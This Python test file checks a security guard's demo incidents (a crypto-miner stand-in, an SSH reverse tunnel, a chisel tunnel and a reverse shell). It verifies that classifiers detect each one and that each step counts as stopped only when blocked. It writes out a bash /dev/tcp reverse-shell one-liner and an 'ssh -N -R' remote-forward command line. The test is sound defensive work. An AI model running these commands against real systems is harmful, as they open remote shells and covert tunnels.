# SPDX-License-Identifier: Apache-2.0
"""The demo's incident steps (guard/demo/incident.py) without a kernel: what
each stand-in sends is what the classifiers recognise, each step is judged
stopped only when the guard really stopped it, and the server's report is
read right. tests/kernel/test_demo.py runs them against the kernel."""
from __future__ import annotations

import io
import signal
import sys

import pytest

from guard.demo import incident
from guard.demo.incident import (POOL_PORT, SSH_PORT, Run, ServerLog, XMRIG_LOGIN, command_line,
                                 incident_steps)
from guard.detect.classify import ssh, stratum, tunnels

HOST = "198.18.3.2"


@pytest.fixture
def steps(tmp_path, monkeypatch):
    """The steps on a host with neither XMRig nor ssh: every stand-in."""
    monkeypatch.setattr(incident.shutil, "which", lambda name: None)
    return {step.name: step for step in incident_steps(HOST, tmp_path)}


def test_the_four_steps_in_the_incidents_order(steps):
    assert list(steps) == ["miner", "ssh-reverse", "reverse-shell", "tunnel"]
    assert {name: step.explained_by for name, step in steps.items()} == {
        "miner": ("detection", "stratum", "block"),
        "ssh-reverse": ("detection", "ssh_reverse_tunnel", "block"),
        "reverse-shell": ("detection", "reverse_shell", "kill"),
        "tunnel": ("detection", "tunnel_tool", "block")}
    assert [steps[n].client for n in steps] == ["stand-in", "stand-in", "real", "stand-in"]


def test_the_miner_stand_in_sends_a_login_the_stratum_classifier_blocks(steps):
    findings = stratum.classify_payload(XMRIG_LOGIN.encode(), dst_port=POOL_PORT)
    assert findings and findings[0].confidence == "high", findings
    assert "XMRig/6.16.0" in findings[0].evidence["agent"]
    standin = steps["miner"].argv[0]
    assert standin.endswith("/xmrig") and repr(XMRIG_LOGIN.encode()) in open(standin).read()


def test_the_ssh_stand_in_is_an_executable_named_ssh_asking_for_a_remote_forward(steps):
    argv = steps["ssh-reverse"].argv
    assert argv[0].endswith("/ssh") and argv[1] == "-c"
    with open(argv[0], "rb") as exe:
        assert exe.read(4) == b"\x7fELF"     # a program called ssh, not a script
    finding, = ssh.classify_ssh(argv, None, program="ssh")
    assert finding.type == "ssh_reverse_tunnel"
    assert finding.evidence["forward"] == f"9000:127.0.0.1:{SSH_PORT}"
    assert finding.evidence["destination"] == {"host": HOST, "port": SSH_PORT, "user": "agent"}


def test_the_real_ssh_gets_the_same_command_line(tmp_path, monkeypatch):
    monkeypatch.setattr(incident.shutil, "which", lambda name: f"/usr/bin/{name}")
    step = incident_steps(HOST, tmp_path)[1]
    assert step.client == "real" and step.argv[:4] == ["/usr/bin/ssh", "-N", "-R",
                                                       f"9000:127.0.0.1:{SSH_PORT}"]


def test_the_tunnel_stand_in_is_a_tunnel_tool_by_its_exec_and_its_bytes(steps):
    argv = steps["tunnel"].argv
    finding, = tunnels.classify_tunnel_exec([sys.executable, *argv])
    assert finding.dialect == "chisel"
    upgrade = incident._chisel_upgrade(HOST, 8000)
    assert any(f.dialect == "chisel" for f in tunnels.classify_tunnel_payload(upgrade, 8000))


def test_the_reverse_shell_is_bash_dev_tcp(steps):
    assert steps["reverse-shell"].argv == ["bash", "-c",
                                           f"bash -i >& /dev/tcp/{HOST}/4444 0>&1"]


@pytest.mark.parametrize("name, run, stopped", [
    ("miner", Run(None, "", 2, 0), True),                 # XMRig retrying, nothing received
    ("miner", Run(0, "reply", 1, 561), False),            # the login reached the pool
    ("ssh-reverse", Run(255, "ssh: connect ...: Operation not permitted", 0, 0), True),
    ("ssh-reverse", Run(0, "EPERM", 0, 0), True),         # the stand-in
    ("ssh-reverse", Run(255, "", 1, 32), False),          # it reached the server
    ("ssh-reverse", Run(None, "", 0, 0), False),          # still running: not refused
    ("reverse-shell", Run(-signal.SIGKILL, "", 0, 0), True),
    ("reverse-shell", Run(0, "", 0, 0), False),
    ("reverse-shell", Run(-signal.SIGKILL, "", 1, 0), False),   # killed, but after connecting
    ("tunnel", Run(0, "EPERM", 0, 0), True),
    ("tunnel", Run(0, "reply", 1, 200), False),
])
def test_a_step_is_stopped_only_when_the_guard_stopped_it(steps, name, run, stopped):
    outcome = steps[name].judge(run)
    assert outcome.stopped is stopped, outcome.words
    assert outcome.words and outcome.facts


class _Server:
    stdout = io.StringIO("listening\naccept 443\naccept 22\ntcp 443 0\naccept 443\n"
                         "tcp 443 12\ntcp 22 40\nudp 5353 5\n")


def test_the_servers_report_is_read_per_port():
    log = ServerLog(_Server())
    log._thread.join(timeout=5)
    assert log.seen(443) == (2, 12) and log.closed(443) == 2
    assert log.seen(22) == (1, 40)
    assert log.seen(4444) == (0, 0)


def test_a_command_line_cuts_long_arguments():
    shown = command_line(["ssh", "-c", "PAYLOAD = b'x'\nimport socket\n", "-u", "4" * 95, "-N"])
    assert shown == "ssh -c 'PAYLOAD = b'\"'\"'x'\"'\"'...' -u 444444444444444444444444444444... -N"
